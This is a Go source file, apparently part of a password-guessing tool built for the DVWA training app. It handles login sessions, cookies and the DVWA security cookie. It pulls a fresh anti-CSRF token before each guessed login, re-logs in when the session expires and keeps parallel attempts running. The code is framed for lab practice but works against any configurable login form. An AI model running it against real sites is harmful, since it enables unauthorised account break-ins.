@@ -0,0 +1,266 @@
+package main
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"html"
+	"io"
+	"net/http"
+	"net/http/cookiejar"
+	"net/url"
+	"regexp"
+	"sync"
+)
+
+// Сессия истекла: приложение перенаправило на страницу входа
+var errSessionExpired = errors.New("сессия истекла")
+
+// Регулярное выражение для скрытого поля формы с анти-CSRF токеном,
+// атрибуты name и value могут идти в любом порядке
+func hiddenInputRegexp(name string) *regexp.Regexp {
+	n := regexp.QuoteMeta(name)
+	return regexp.MustCompile(`(?is)<input[^>]*?name=['"]` + n + `['"][^>]*?value=['"]([^'"]*)['"]` +
+		`|<input[^>]*?value=['"]([^'"]*)['"][^>]*?name=['"]` + n + `['"]`)
+}
+
+// Извлечение токена: значение первой непустой группы
+func extractToken(re *regexp.Regexp, body []byte) (string, bool) {
+	m := re.FindSubmatch(body)
+	if m == nil {
+		return "", false
+	}
+	groups := m[1:]
+	if len(groups) == 0 {
+		return html.UnescapeString(string(m[0])), true
+	}
+	for _, g := range groups {
+		if len(g) > 0 {
+			return html.UnescapeString(string(g)), true
+		}
+	}
+	return "", true
+}
+
+// Настройки сессии с атакуемым приложением
+type sessionConfig struct {
+	Target    *url.URL // страница с формой, откуда берётся токен
+	LoginURL  *url.URL // страница входа в приложение (DVWA login.php)
+	Cookie    string   // готовые cookie; если пусто, сессия создаётся входом
+	Security  string   // уровень защиты DVWA, выставляется cookie security
+	SetupUser string   // учётные данные для входа; если пусто, страница входа только посещается
+	SetupPass string
+	TokenRe   *regexp.Regexp // nil — токен не нужен
+	Template  *requestTemplate
+	AuthToken string            // подставляется в метку §AUTHTOKEN§ шаблона
+	Transport http.RoundTripper // nil — http.DefaultTransport
+}
+
+// Сессия с атакуемым приложением. Все запросы идут через один клиент
+// с хранилищем cookie, поэтому cookie, выданные при получении токена,
+// отправляются и с попыткой входа.
+type session struct {
+	cfg    sessionConfig
+	client *http.Client // для служебных запросов, перенаправления выполняются
+	direct *http.Client // для попыток входа, перенаправления не выполняются
+	mu     sync.Mutex   // получение токена и попытка входа
+
+	// Попытки идут под RLock, повторный вход — под Lock: страница входа
+	// выдаёт новый токен при каждом посещении, и параллельные попытки,
+	// перенаправленные на неё, сломали бы вход
+	bootMu sync.RWMutex
+	gen    int // номер текущей сессии, растёт при каждом входе
+}
+
+func newSession(cfg sessionConfig) (*session, error) {
+	jar, err := cookiejar.New(nil)
+	if err != nil {
+		return nil, err
+	}
+	s := &session{
+		cfg:    cfg,
+		client: &http.Client{Jar: jar, Transport: cfg.Transport},
+		direct: &http.Client{
+			Jar:       jar,
+			Transport: cfg.Transport,
+			// Ответ на попытку проверяется как есть, включая Location
+			CheckRedirect: func(*http.Request, []*http.Request) error {
+				return http.ErrUseLastResponse
+			},
+		},
+	}
+	if cfg.Cookie == "" {
+		return s, s.bootstrap()
+	}
+
+	cookies, err := http.ParseCookie(cfg.Cookie)
+	if err != nil {
+		return nil, fmt.Errorf("cookie %q: %w", cfg.Cookie, err)
+	}
+	s.setCookies(cookies...)
+	s.setSecurity()
+	return s, nil
+}
+
+// Cookie для страницы с формой и для адреса попыток, если шаблон
+// отправляет их на другой хост, например сырой запрос с -url по умолчанию
+func (s *session) setCookies(cookies ...*http.Cookie) {
+	for _, c := range cookies {
+		c.Path = "/"
+	}
+	s.client.Jar.SetCookies(s.cfg.Target, cookies)
+	if s.cfg.Template == nil {
+		return
+	}
+	if u := s.cfg.Template.target(s.cfg.Target); u != nil && u.Host != s.cfg.Target.Host {
+		s.client.Jar.SetCookies(u, cookies)
+	}
+}
+
+// Уровень защиты DVWA хранится в cookie и сбрасывается при входе,
+// поэтому выставляется после каждого входа
+func (s *session) setSecurity() {
+	if s.cfg.Security != "" {
+		s.setCookies(&http.Cookie{Name: "security", Value: s.cfg.Security})
+	}
+}
+
+// Ответ получен со страницы входа или перенаправляет на неё
+func (s *session) expired(resp *http.Response) bool {
+	if s.cfg.LoginURL == nil || resp.Request == nil {
+		return false
+	}
+	if resp.Request.URL.Path == s.cfg.LoginURL.Path {
+		return true
+	}
+	loc, err := resp.Location()
+	return err == nil && loc.Path == s.cfg.LoginURL.Path
+}
+
+// Создание сессии: посещение страницы входа (cookie сессии и токен формы)
+// и вход с учётными данными SetupUser/SetupPass, если они заданы
+func (s *session) bootstrap() error {
+	if s.cfg.LoginURL == nil {
+		s.setSecurity()
+		return nil
+	}
+	resp, err := s.client.Get(s.cfg.LoginURL.String())
+	if err != nil {
+		return err
+	}
+	body, err := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if err != nil {
+		return err
+	}
+
+	if s.cfg.SetupUser != "" {
+		form := url.Values{
+			"username": {s.cfg.SetupUser},
+			"password": {s.cfg.SetupPass},
+			"Login":    {"Login"},
+		}
+		if token, ok := extractToken(hiddenInputRegexp("user_token"), body); ok {
+			form.Set("user_token", token)
+		}
+		resp, err = s.client.PostForm(s.cfg.LoginURL.String(), form)
+		if err != nil {
+			return err
+		}
+		io.Copy(io.Discard, resp.Body)
+		resp.Body.Close()
+		if s.expired(resp) {
+			return fmt.Errorf("не удалось войти в приложение как %q", s.cfg.SetupUser)
+		}
+	}
+
+	s.setSecurity()
+	s.gen++
+	return nil
+}
+
+// Повторный вход после истечения сессии номер gen. Если другая горутина
+// уже вошла заново, повторно входить не нужно.
+func (s *session) rebootstrap(gen int) error {
+	s.bootMu.Lock()
+	defer s.bootMu.Unlock()
+	if s.gen != gen {
+		return nil
+	}
+	if s.cfg.SetupUser == "" {
+		return fmt.Errorf("%w, а учётные данные для входа не заданы (-setup-user)", errSessionExpired)
+	}
+	fmt.Println("Сессия истекла, выполняется повторный вход")
+	return s.bootstrap()
+}
+
+// Получение свежего токена со страницы формы
+func (s *session) fetchToken(ctx context.Context) (string, error) {
+	req, err := http.NewRequestWithContext(ctx, http.MethodGet, s.cfg.Target.String(), nil)
+	if err != nil {
+		return "", err
+	}
+	resp, err := s.client.Do(req)
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+	if s.expired(resp) {
+		return "", errSessionExpired
+	}
+	body, err := io.ReadAll(resp.Body)
+	if err != nil {
+		return "", err
+	}
+	token, ok := extractToken(s.cfg.TokenRe, body)
+	if !ok {
+		return "", fmt.Errorf("токен не найден на странице %s (status code = %v)", s.cfg.Target, resp.StatusCode)
+	}
+	return token, nil
+}
+
+// Одна попытка входа без обработки истечения сессии
+func (s *session) try(ctx context.Context, login, pass string) (*http.Response, error) {
+	c := credentials{user: login, pass: pass, authToken: s.cfg.AuthToken}
+	if s.cfg.TokenRe != nil {
+		s.mu.Lock()
+		defer s.mu.Unlock()
+		token, err := s.fetchToken(ctx)
+		if err != nil {
+			return nil, err
+		}
+		c.token = token
+	}
+	req, err := s.cfg.Template.newRequest(ctx, s.cfg.Target, c)
+	if err != nil {
+		return nil, err
+	}
+	resp, err := s.direct.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	if s.expired(resp) {
+		resp.Body.Close()
+		return nil, errSessionExpired
+	}
+	return resp, nil
+}
+
+// Попытка входа по шаблону запроса. Приложение хранит один токен на сессию,
+// поэтому получение токена и попытка выполняются без перерыва, под блокировкой сессии.
+// Если сессия истекла, выполняется повторный вход и попытка повторяется.
+func (s *session) attempt(ctx context.Context, login, pass string) (*http.Response, error) {
+	const maxRelogins = 3
+	for i := 0; ; i++ {
+		s.bootMu.RLock()
+		gen := s.gen
+		resp, err := s.try(ctx, login, pass)
+		s.bootMu.RUnlock()
+		if !errors.Is(err, errSessionExpired) || i == maxRelogins {
+			return resp, err
+		}
+		if err := s.rebootstrap(gen); err != nil {
+			return nil, err
+		}
+	}
+}